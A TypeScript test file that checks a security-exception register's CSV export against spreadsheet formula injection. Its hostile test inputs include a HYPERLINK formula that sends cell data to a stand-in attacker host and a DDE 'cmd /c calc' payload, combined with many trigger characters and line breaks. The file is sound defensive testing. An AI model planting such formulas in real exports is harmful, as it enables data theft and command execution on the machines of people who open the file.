/**
 * ISSUE6 B9: the CSV export is safe in every spreadsheet. csv-parse is not installed, so the file is read back
 * with the small RFC 4180 reader below (quoted fields, doubled quotes, CRLF records, line breaks inside quotes).
 */
import { neutralise, registerToCsv } from '../../src/application/register-csv';
import { defaultPolicy } from '../../src/domain/policy-schema';
import { toExportRow } from '../../src/domain/register';
import { BUILDER_NOW, generateException } from '../builders/exception-record';

/** RFC 4180 §2: records end in CRLF; a quoted field may hold CRLF, LF, CR and doubled quotes; nothing else is special. */
const readCsv = (text: string): string[][] => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  while (index < text.length) {
    if (text.startsWith('"', index) && field === '') {
      // A quoted field: up to the closing quote not doubled.
      index += 1;
      for (;;) {
        const close = text.indexOf('"', index);
        if (close < 0) throw new Error('unterminated quoted field');
        field += text.slice(index, close);
        if (text[close + 1] === '"') {
          field += '"';
          index = close + 2;
        } else {
          index = close + 1;
          break;
        }
      }
      if (!(text.startsWith(',', index) || text.startsWith('\r\n', index) || index === text.length))
        throw new Error(`text after a closing quote at ${index}`);
    } else if (text.startsWith(',', index)) {
      record.push(field);
      field = '';
      index += 1;
    } else if (text.startsWith('\r\n', index)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else {
      const char = text[index] ?? '';
      if (/[\r\n"]/.test(char)) throw new Error(`unquoted ${JSON.stringify(char)} at ${index}`);
      field += char;
      index += 1;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record does not end in CRLF');
  return records;
};

const LINE_BREAKS = ['\r\n', '\n', '\r', '\v', '\f', '\u0085', '\u2028', '\u2029'];
const TRIGGERS = ['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠'];
const FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"Click")';

/** A cell text whose every line would start a formula, in every combination of break and trigger. */
const hostile = (trigger: string, lineBreak: string): string =>
  `${trigger}${FORMULA}${lineBreak}${trigger}cmd|'/c calc'!A0${lineBreak}  ${trigger}1+1${lineBreak}`;

/** A line of a cell a spreadsheet could run: after optional spaces, a trigger (no apostrophe before it). */
const RUNNABLE = /^[\s\u00A0\u3000]*[=+\-@\t\r＝＋－＠]/u;
const linesOf = (cell: string): string[] => cell.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/);

describe('registerToCsv (ISSUE6 B9)', () => {
  const exceptions = TRIGGERS.flatMap((trigger, t) =>
    LINE_BREAKS.map((lineBreak, b) =>
      generateException({
        id: String(1000 + t * 10 + b),
        key: `SEC-${1000 + t * 10 + b}`,
        summary: hostile(trigger, lineBreak),
        justification: hostile(trigger, lineBreak),
        compensatingControls: `IP allow-listing${lineBreak}${trigger}SUM(1+1)`,
        remediationPlan: hostile(trigger, lineBreak),
        affectedAssets: [`${trigger}db-01`, 'web-01'],
        requester: { accountId: 'acc-x', displayName: `${trigger}Mallory${lineBreak}${trigger}2+2` },
      }),
    ),
  );
  const csv = registerToCsv(
    exceptions.map((exception) => toExportRow(exception, defaultPolicy(), BUILDER_NOW)),
  );
  const records = readCsv(csv);

  it('reads back as one header and exactly one row per exception, every row as wide as the header', () => {
    expect(records).toHaveLength(1 + exceptions.length);
    expect(records.map((record) => record.length)).toEqual(records.map(() => records[0]!.length));
    expect(records.slice(1).map((record) => record[0])).toEqual(exceptions.map((exception) => exception.key));
  });

  it('leaves no line of any cell that a spreadsheet could run as a formula', () => {
    const runnable = records.flatMap((record, row) =>
      record.flatMap((cell, column) =>
        linesOf(cell)
          .filter((line) => RUNNABLE.test(line))
          .map((line) => `row ${row} column ${column}: ${JSON.stringify(line)}`),
      ),
    );
    expect(runnable).toEqual([]);
  });

  it('quotes every cell holding a line break of any kind, so a reader splitting on them stays in the cell', () => {
    // Outside quotes, the file has no line break but the CRLF record ends: one per record.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '""');
    expect(unquoted.split('\r\n')).toHaveLength(records.length + 1);
    expect(unquoted.replaceAll('\r\n', '')).not.toMatch(/[\n\r\v\f\u0085\u2028\u2029]/);
  });

  it.each<[string, string | number, string | number]>([
    ['a formula', '=1+1', "'=1+1"],
    ['a formula after spaces', '  =1+1', "'  =1+1"],
    ['a full-width formula', '＝1+1', "'＝1+1"],
    ['a formula on the second line', 'Fine\n@SUM(A1)', "Fine\n'@SUM(A1)"],
    ['a formula after CRLF and after U+2028', 'a\r\n+1\u2028-2', "a\r\n'+1\u2028'-2"],
    ['a tab at the start', '\tx', "'\tx"],
    ['plain text with a dash inside', 'prod-db-01', 'prod-db-01'],
    ['a number', 3, 3],
  ])('neutralises %s', (_case, value, expected) => {
    expect(neutralise(value)).toBe(expected);
  });
});
